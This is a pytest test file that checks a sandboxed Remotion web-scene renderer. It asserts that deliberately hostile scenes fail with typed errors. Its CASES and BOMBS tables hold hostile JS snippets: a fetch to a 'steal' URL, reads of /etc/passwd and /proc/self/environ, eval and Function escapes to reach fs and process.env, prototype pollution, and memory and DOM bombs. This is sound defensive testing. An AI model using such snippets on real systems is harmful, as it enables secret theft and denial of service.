"""Hostile web scenes: each ends with the expected typed error, inside the bwrap sandbox, and
the host is unchanged (no file written outside the job, no request answered from outside)."""

from __future__ import annotations

from pathlib import Path

import pytest

from renderers import Quality, SceneCodeError, SceneSource, probe_video
from renderers.web import WebRenderer
from sandbox import Sandbox

CANARY = Path("/tmp/scenefarm-web-canary")


def scene(body: str, imports: str = "") -> SceneSource:
    """A one-composition scene whose component runs `body` (JS statements) and draws a box."""
    code = f"""
import React, {{ useEffect, useState }} from "react";
import {{ AbsoluteFill, Composition, registerRoot, useCurrentFrame }} from "remotion";
import {{ delayRender, continueRender, cancelRender, random }} from "remotion";
{imports}
export const Hostile: React.FC = () => {{
  const frame = useCurrentFrame();
  {body}
  return <AbsoluteFill style={{{{ background: "white" }}}}>frame {{frame}}</AbsoluteFill>;
}};
registerRoot(() => (
  <Composition id="Hostile" component={{Hostile}} durationInFrames={{10}} fps={{30}}
    width={{640}} height={{360}} />
));
"""
    return SceneSource("hostile.tsx", code)


def render_error(
    web: WebRenderer, sandbox: Sandbox, source: SceneSource, tmp: Path
) -> SceneCodeError:
    with pytest.raises(SceneCodeError) as caught:
        web.render_frames(sandbox, source, "Hostile", Quality.LOW, (0, 1), tmp)
    return caught.value


CASES = {
    "fetch": (
        'useEffect(() => { fetch("http://example.com/steal?x=1").then((r) => r.text()); }, []);',
        "NetworkRefused",
        "example.com",
    ),
    "xhr": (
        "useState(() => { const x = new XMLHttpRequest();"
        ' x.open("GET", "https://example.com/"); x.send(); return 0; });'
        'const [h] = useState(() => delayRender("xhr"));'
        " useEffect(() => { setTimeout(() => continueRender(h), 0); }, []);",
        "NetworkRefused",
        "example.com",
    ),
    "websocket": (
        'useState(() => new WebSocket("ws://example.com/socket"));',
        "NetworkRefused",
        "WebSocket",
    ),
    "remote image": (
        'const [h] = useState(() => delayRender("img")); useEffect(() => { const i = new Image(); '
        'i.onerror = () => cancelRender(new Error("remote image failed"));'
        ' i.src = "http://example.com/a.png"; }, []);',
        "NetworkRefused",
        "example.com/a.png",
    ),
    "file read": (
        'useEffect(() => { fetch("file:///etc/passwd").then((r) => r.text()); }, []);',
        "TypeError",
        "Failed to fetch",
    ),
    "proc read via img": (
        'const [h] = useState(() => delayRender("proc")); useEffect(() => { const i = new Image(); '
        'i.onerror = () => cancelRender(new Error("local file refused"));'
        ' i.src = "file:///proc/self/environ"; }, []);',
        "Error",
        "local file refused",
    ),
    "window.open": (
        'useState(() => window.open("http://example.com"));',
        "NetworkRefused",
        "window.open",
    ),
    "handle never released": (
        'useState(() => delayRender("waiting forever", { timeoutInMilliseconds: 1500 }));',
        "RenderHandleTimeout",
        "waiting forever",
    ),
    "thrown in render": (
        'if (frame >= 0) throw new RangeError("boom at " + frame);',
        "RangeError",
        "boom at 0",
    ),
    "random(null)": ("random(null);", "Error", "not deterministic"),
    "other jobs' outputs": (
        'useEffect(() => { fetch("/scratch/jobs/").then((r) => r.text()); }, []);',
        "NetworkRefused",
        "scene.invalid/scratch/jobs/",
    ),
    "prototype pollution": (
        "useState(() => { (Object.prototype as any).durationInFrames = 1e9;"
        ' (Array.prototype as any).map = () => { throw new Error("polluted map"); }; return 0; });',
        "Error",
        "polluted map",
    ),
    "eval to reach fs": ('eval("require")("fs");', "RefusedImport", "no file system"),
    "Function to reach process": (
        'Function("return process.env")();',
        "ReferenceError",
        "process is not defined",
    ),
    "harness replaced": (
        'Object.defineProperty(window, "__sf", { value: { frame: () => ({ ok: 0 }) } });',
        "TypeError",
        "Cannot redefine property: __sf",
    ),
    "runtime module patched": (
        'Object.defineProperty(eval("require")("remotion"), "interpolate", { value: () => 0 });',
        "TypeError",
        "Cannot redefine property: interpolate",
    ),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_hostile_scene_fails_typed(
    web: WebRenderer, web_sandbox: Sandbox, tmp_path: Path, case: str
) -> None:
    body, kind, needle = CASES[case]
    error = render_error(web, web_sandbox, scene(body), tmp_path)
    assert error.kind == kind, str(error)
    assert needle in error.message, str(error)
    assert not any(tmp_path.iterdir()), "a failed job must leave nothing behind"


def test_refused_module_names_the_alternative(
    web: WebRenderer, web_sandbox: Sandbox, tmp_path: Path
) -> None:
    source = scene(
        "", imports='import { ThreeCanvas } from "@remotion/three"; export const T = ThreeCanvas;'
    )
    with pytest.raises(SceneCodeError) as caught:
        web.list_scenes(web_sandbox, source)
    assert caught.value.kind == "RefusedImport"
    assert "CSS 3D transforms" in caught.value.message


def test_refused_export_names_the_alternative(
    web: WebRenderer, web_sandbox: Sandbox, tmp_path: Path
) -> None:
    source = scene("", imports='import { Video } from "remotion"; export const v = Video;')
    with pytest.raises(SceneCodeError) as caught:
        web.list_scenes(web_sandbox, source)
    assert caught.value.kind == "RefusedImport"
    assert "no video" in caught.value.message


def test_node_builtins_are_refused(web: WebRenderer, web_sandbox: Sandbox) -> None:
    source = scene("", imports='import { readFileSync } from "fs"; export const x = readFileSync;')
    with pytest.raises(SceneCodeError) as caught:
        web.list_scenes(web_sandbox, source)
    assert caught.value.kind == "RefusedImport"
    assert "no file system" in caught.value.message


def test_endless_loop_in_render_times_out(
    web: WebRenderer, web_sandbox: Sandbox, tmp_path: Path
) -> None:
    error = render_error(web, web_sandbox, scene("if (frame >= 0) { while (true) {} }"), tmp_path)
    assert error.kind == "FrameTimeout"
    assert "endless loop" in error.message


def test_syntax_error_is_reported_with_its_line(web: WebRenderer, web_sandbox: Sandbox) -> None:
    source = SceneSource("broken.tsx", "const a = 1;\nconst b = ;\n")
    with pytest.raises(SceneCodeError) as caught:
        web.list_scenes(web_sandbox, source)
    assert caught.value.kind == "SyntaxError"
    assert caught.value.line == 2


def test_host_files_are_not_written(web: WebRenderer, web_sandbox: Sandbox, tmp_path: Path) -> None:
    """A scene cannot write to the host: its page has no file system API that reaches it."""
    CANARY.unlink(missing_ok=True)
    body = (
        'useEffect(() => { const a = document.createElement("a"); a.href = URL.createObjectURL('
        'new Blob(["x"])); a.download = "/tmp/scenefarm-web-canary"; a.click(); }, []);'
    )
    web.render_frames(web_sandbox, scene(body), "Hostile", Quality.LOW, (0, 1), tmp_path)
    assert not CANARY.exists()


def test_runtime_error_names_its_line_in_the_scene_file(
    web: WebRenderer, web_sandbox: Sandbox, tmp_path: Path
) -> None:
    source = scene('if (frame >= 0) throw new RangeError("boom");')
    body_line = (
        source.code.splitlines().index('  if (frame >= 0) throw new RangeError("boom");') + 1
    )
    error = render_error(web, web_sandbox, source, tmp_path)
    assert (error.kind, error.message, error.line) == ("RangeError", "boom", body_line)


def test_giant_canvas_is_clipped_to_the_frame(
    web: WebRenderer, web_sandbox: Sandbox, tmp_path: Path
) -> None:
    """A canvas of 2^20 x 2^20 pixels: Chromium refuses the backing store, the page still
    draws, and the chunk is the preset's size."""
    body = (
        'useEffect(() => { const c = document.createElement("canvas"); c.width = 1 << 20;'
        " c.height = 1 << 20; document.body.appendChild(c);"
        ' c.getContext("2d")?.fillRect(0, 0, 1 << 20, 1 << 20); }, []);'
    )
    result, path = web.render_frames(
        web_sandbox, scene(body), "Hostile", Quality.LOW, (0, 1), tmp_path
    )
    info = probe_video(path)
    assert result.ok and (info.width, info.height, info.frames) == (854, 480, 2)


BOMBS = {
    "memory": (
        "useState(() => { const hoard: number[][] = [];"
        " for (;;) hoard.push(new Array(1 << 20).fill(frame + 1)); });"
    ),
    "DOM": (
        "useState(() => { for (let i = 0; ; i++) {"
        ' const d = document.createElement("div"); d.textContent = "node " + i;'
        " document.body.appendChild(d); } });"
    ),
}


@pytest.mark.parametrize("bomb", sorted(BOMBS))
def test_a_bomb_ends_typed_and_the_sandbox_renders_after(
    web: WebRenderer, web_sandbox: Sandbox, tmp_path: Path, bomb: str
) -> None:
    """Allocation or DOM nodes without end: the job ends with a typed error within its frame
    timeout (the page stuck in reclaim or GC answers nothing; a renderer the memory cgroup
    kills is PageCrashed), and the same warm sandbox renders the next scene."""
    error = render_error(web, web_sandbox, scene(BOMBS[bomb]), tmp_path / "bomb")
    assert error.kind in ("FrameTimeout", "PageCrashed"), str(error)
    result, path = web.render_frames(
        web_sandbox, scene(""), "Hostile", Quality.LOW, (0, 1), tmp_path / "after"
    )
    assert result.ok and probe_video(path).frames == 2
